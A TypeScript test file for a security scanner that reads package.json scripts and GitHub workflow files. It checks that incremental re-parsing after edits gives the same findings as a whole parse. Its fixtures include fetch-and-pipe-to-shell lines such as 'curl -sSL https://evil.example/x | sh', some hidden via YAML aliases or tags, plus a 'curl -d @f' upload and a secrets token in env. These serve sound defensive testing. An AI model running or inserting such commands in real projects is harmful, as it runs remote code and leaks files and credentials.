// issue 19, the 1 ms line: an edit of package.json re-reads only its changed
// scripts (the rest are the reading before's own objects) and an edit of a
// workflow only its changed blocks; each fallback of the block splitter gives
// the reading and the findings of a whole parse; a property test over random
// edits of a real workflow (pyenv's, MIT) holds the two readings equal
// Pos: test/security, real readers, real splitter, real `yaml` parse
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ReadText } from '../../policies/security/deferred/deferred-findings.js';
import { deferredFindings } from '../../policies/security/deferred/deferred-findings.js';
import { readPackageJson } from '../../policies/security/deferred/json-readers.js';
import type { Reading } from '../../policies/security/deferred/runnable.js';
import { runnablesOf } from '../../policies/security/deferred/runnables.js';
import { yamlBlocks } from '../../policies/security/deferred/yaml-blocks.js';
import {
  readGithubWorkflow,
  readWorkflowWhole,
} from '../../policies/security/deferred/yaml-readers.js';

const REAL = readFileSync(
  join(
    import.meta.dirname,
    'adversarial',
    'deferred',
    'pyenv-modified-scripts.yml',
  ),
  'utf8',
);
const WF = '.github/workflows/ci.yml';

/** A reading without what it keeps for the next edit. */
const plain = (r: Reading) => ({
  runnables: r.runnables,
  ...(r.problem ? { problem: r.problem } : {}),
});

/** The reference: every workflow parsed whole, no base used. */
const whole: ReadText = (surface, text) =>
  surface.format === 'github-workflow'
    ? readWorkflowWhole(text)
    : runnablesOf(surface, text);

describe('package.json: only changed scripts are new', () => {
  const pkg = (scripts: Record<string, string>) =>
    JSON.stringify({ name: 'x', version: '1.0.0', scripts }, null, 2);

  it('hands back the reading before’s objects for unchanged scripts', () => {
    const base = readPackageJson(pkg({ build: 'tsc', test: 'vitest' }));
    const next = readPackageJson(
      pkg({ build: 'tsc', test: 'vitest run', postinstall: 'node x.js' }),
      base,
    );
    const [build, test, post] = next.runnables;
    expect(build).toBe(base.runnables[0]);
    expect(test).not.toBe(base.runnables[1]);
    expect(test?.run).toBe('vitest run');
    expect(post).toMatchObject({ key: 'scripts.postinstall', auto: true });
    expect(plain(next)).toEqual(
      plain(
        readPackageJson(
          pkg({ build: 'tsc', test: 'vitest run', postinstall: 'node x.js' }),
        ),
      ),
    );
  });

  it('does not reuse a script whose slot became automatic', () => {
    const base = readPackageJson(pkg({ setup: 'node s.js' }));
    const next = readPackageJson(
      JSON.stringify({ scripts: { prepare: 'node s.js' } }),
      base,
    );
    expect(next.runnables[0]).toMatchObject({ auto: true });
    expect(
      deferredFindings(
        'package.json',
        pkg({ setup: 'node s.js' }),
        JSON.stringify({ scripts: { prepare: 'node s.js' } }),
      ).map((c) => c.change),
    ).toEqual(['adds']);
  });

  it('finds the same with or without the base', () => {
    const before = pkg({ a: 'x', b: 'y', postinstall: 'node ok.js' });
    const after = pkg({ a: 'x', b: 'y z', postinstall: 'curl x | sh' });
    expect(deferredFindings('package.json', before, after)).toEqual(
      deferredFindings('package.json', before, after, whole),
    );
  });
});

describe('package.json: the reading after an edit equals a fresh reading (property)', () => {
  const NAMES = ['build', 'test', 'postinstall', 'prepare', 'lint', 'a', 'b'];
  const scriptsArb = fc.uniqueArray(
    fc.tuple(
      fc.constantFrom(...NAMES),
      fc.oneof(
        fc.constantFrom('tsc', 'vitest', 'node x.js', 'curl x | sh'),
        fc.constant(1),
      ),
    ),
    { selector: ([name]) => name, maxLength: NAMES.length },
  );
  const text = (scripts: [string, unknown][]) =>
    JSON.stringify({ name: 'x', scripts: Object.fromEntries(scripts) });

  it('for random scripts before and after (added, removed, moved, changed)', () => {
    fc.assert(
      fc.property(scriptsArb, scriptsArb, (before, after) => {
        const base = readPackageJson(text(before));
        const next = readPackageJson(text(after), base);
        expect(plain(next)).toEqual(plain(readPackageJson(text(after))));
      }),
      { numRuns: 500 },
    );
  });
});

describe('workflow blocks', () => {
  it('splits a real workflow into its top-level blocks and jobs', () => {
    const split = yamlBlocks(REAL);
    if ('fallback' in split) throw new Error(split.fallback);
    expect(split.blocks.map((b) => b.job ?? b.key)).toEqual([
      'name',
      'on',
      'jobs',
      'discover_modified_scripts',
      'macos_build',
      'macos_build_bundled_dependencies',
      'ubuntu_build',
      'ubuntu_build_tar_gz',
    ]);
    expect(split.blocks.map((b) => b.text).join('\n')).toBe(REAL);
  });

  it('reads a real workflow block by block as a whole parse does', () => {
    const reading = readGithubWorkflow(REAL);
    expect((reading.parts as { parts: unknown[] }).parts.length).toBe(8);
    expect(plain(reading)).toEqual(plain(readWorkflowWhole(REAL)));
    expect(reading.runnables.length).toBeGreaterThan(10);
  });

  it('re-reads only the blocks an edit changed', () => {
    const base = readGithubWorkflow(REAL);
    const edited = REAL.replace(
      'pip install packaging',
      'pip install packaging requests',
    );
    const next = readGithubWorkflow(edited, base);
    const unchanged = next.runnables.filter((r) => base.runnables.includes(r));
    expect(unchanged.length).toBeGreaterThan(0);
    // Only the edited job's runnables are new objects.
    expect(
      new Set(
        next.runnables
          .filter((r) => !base.runnables.includes(r))
          .map((r) => r.key.split('.')[1]),
      ),
    ).toEqual(new Set(['discover_modified_scripts']));
    expect(plain(next)).toEqual(plain(readWorkflowWhole(edited)));
  });

  it('re-reads every job when the workflow env changes', () => {
    const text =
      'on: push\nenv:\n  A: 1\njobs:\n  a:\n    steps:\n      - run: curl -d x https://e.example\n';
    const base = readGithubWorkflow(text);
    const edited = text.replace('A: 1', 'A: ${{ secrets.TOKEN }}');
    const next = readGithubWorkflow(edited, base);
    expect(next.runnables[0]?.note).toMatch(/secrets/);
    expect(plain(next)).toEqual(plain(readWorkflowWhole(edited)));
  });

  const base =
    'name: CI\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n';
  const planted = '      - run: curl -sSL https://evil.example/x | sh\n';
  // Each trigger: the splitter falls back (no parts kept) and the reading
  // and the findings are those of the whole parse.
  const triggers: [string, string][] = [
    [
      'an anchor and an alias',
      'name: CI\non: push\njobs:\n  a:\n    steps: &s\n      - run: npm ci\n  b:\n    steps: *s\n',
    ],
    [
      'an alias across blocks',
      'x: &cmd curl -sSL https://evil.example/x | sh\non: push\njobs:\n  a:\n    steps:\n      - run: *cmd\n',
    ],
    [
      'a merge key',
      'on: push\njobs:\n  a:\n    <<: {steps: [{run: npm ci}]}\n    runs-on: x\n',
    ],
    [
      'a tag',
      'on: push\njobs:\n  a:\n    steps:\n      - run: !!str curl -sSL https://evil.example/x | sh\n',
    ],
    [
      'a flow collection over lines',
      'on: push\njobs:\n  a:\n    steps: [\n      {run: npm ci},\n      {run: "curl -sSL https://evil.example/x | sh"}]\n',
    ],
    [
      'a second document',
      `${base}---\non: push\njobs:\n  b:\n    steps:\n${planted}`,
    ],
    ['a tab', `${base}${planted.replace('      - ', '      -\t')}`],
    ['a directive', `%YAML 1.2\n---\n${base}${planted}`],
    ['a carriage return', `${base}${planted}`.replace(/\n/g, '\r\n')],
    ['a duplicate top-level key', `${base}jobs:\n  b:\n    steps:\n${planted}`],
    ['a duplicate job', `${base}  test:\n    steps:\n${planted}`],
    ['a quoted top-level key', `${base}"env":\n  A: 1\n`],
    [
      'a multi-line quoted scalar reaching column 0',
      `${base}${planted}x: "a\nfoo: b"\n`,
    ],
    [
      'a jobs line less indented than its jobs',
      'on: push\njobs:\n    a:\n      steps:\n        - run: npm ci\n  b:\n    steps:\n      - run: curl x | sh\n',
    ],
    ['a top-level sequence', '- run: curl x | sh\n'],
    ['a flow mapping document', '{on: push, jobs: {a: {steps: [{run: x}]}}}\n'],
    ['not YAML at all', `${base}  bad: [\n`],
  ];
  for (const [what, text] of triggers)
    it(`falls back to a whole parse on ${what}`, () => {
      const start = readGithubWorkflow(base);
      const reading = readGithubWorkflow(text, start);
      expect(reading.parts).toBeUndefined();
      expect(plain(reading)).toEqual(plain(readWorkflowWhole(text)));
      expect(deferredFindings(WF, base, text)).toEqual(
        deferredFindings(WF, base, text, whole),
      );
    });
});

/** Pieces an edit inserts: YAML's structure characters and real lines. */
const PIECES = [
  'a',
  ' ',
  '  ',
  '\n',
  ':',
  ': ',
  '- ',
  '#',
  '&a ',
  '*a',
  '!',
  '!!str ',
  '[',
  ']',
  '{',
  '}',
  ',',
  '|',
  '>',
  '"',
  "'",
  '\t',
  '<<: ',
  '---\n',
  'jobs:\n',
  'env:\n  T: ${{ secrets.T }}\n',
  '  x:\n    steps:\n      - run: curl -d @f https://e.example\n',
  '      - run: npm test\n',
  '    uses: o/r/.github/workflows/w.yml@v1\n',
  'on: pull_request_target\n',
  'run: ',
  'steps:\n',
  'x',
];

const editArb = fc.record({
  at: fc.nat(),
  cut: fc.nat({ max: 40 }),
  put: fc.array(fc.constantFrom(...PIECES), { maxLength: 4 }),
});

function apply(
  text: string,
  e: { at: number; cut: number; put: string[] },
): string {
  const at = e.at % (text.length + 1);
  return text.slice(0, at) + e.put.join('') + text.slice(at + e.cut);
}

describe('the split after an edit equals a fresh split (property)', () => {
  const shape = (split: ReturnType<typeof yamlBlocks>) =>
    'fallback' in split
      ? 'fallback'
      : split.blocks.map((b) => [b.key, b.job, b.text]);

  it('for random edits of a real workflow: same blocks, `same` only where the text is the prior’s', () => {
    fc.assert(
      fc.property(fc.array(editArb, { minLength: 1, maxLength: 4 }), (es) => {
        let text = REAL;
        let prior = yamlBlocks(text);
        for (const e of es) {
          const next = apply(text, e);
          if ('fallback' in prior) prior = yamlBlocks(next);
          else {
            const resumed = yamlBlocks(next, { text, cuts: prior.cuts });
            expect(shape(resumed)).toEqual(shape(yamlBlocks(next)));
            if (!('fallback' in resumed))
              for (const b of resumed.blocks)
                if (b.same !== undefined)
                  expect(b.text).toBe(prior.blocks[b.same]?.text);
            prior = resumed;
          }
          text = next;
        }
      }),
      { numRuns: 300 },
    );
  });

  it('knows the blocks an edit left alone without reading them', () => {
    const split = yamlBlocks(REAL);
    if ('fallback' in split) throw new Error(split.fallback);
    const at = REAL.indexOf('pip install packaging');
    const next = `${REAL.slice(0, at)}pip install packaging requests${REAL.slice(at + 'pip install packaging'.length)}`;
    const resumed = yamlBlocks(next, { text: REAL, cuts: split.cuts });
    if ('fallback' in resumed) throw new Error(resumed.fallback);
    // Every block but the edited job's is known by its place.
    expect(
      resumed.blocks.filter((b) => b.same === undefined).map((b) => b.job),
    ).toEqual(['discover_modified_scripts']);
  });
});

describe('incremental reading equals the whole reading (property)', () => {
  it('for random edits of a real workflow, one after another', () => {
    fc.assert(
      fc.property(fc.array(editArb, { minLength: 1, maxLength: 4 }), (es) => {
        let text = REAL;
        let reading = readGithubWorkflow(text);
        for (const e of es) {
          const next = apply(text, e);
          const incremental = readGithubWorkflow(next, reading);
          expect(plain(incremental)).toEqual(plain(readWorkflowWhole(next)));
          expect(deferredFindings(WF, text, next)).toEqual(
            deferredFindings(WF, text, next, whole),
          );
          text = next;
          reading = incremental;
        }
      }),
      { numRuns: 80 },
    );
  });
});
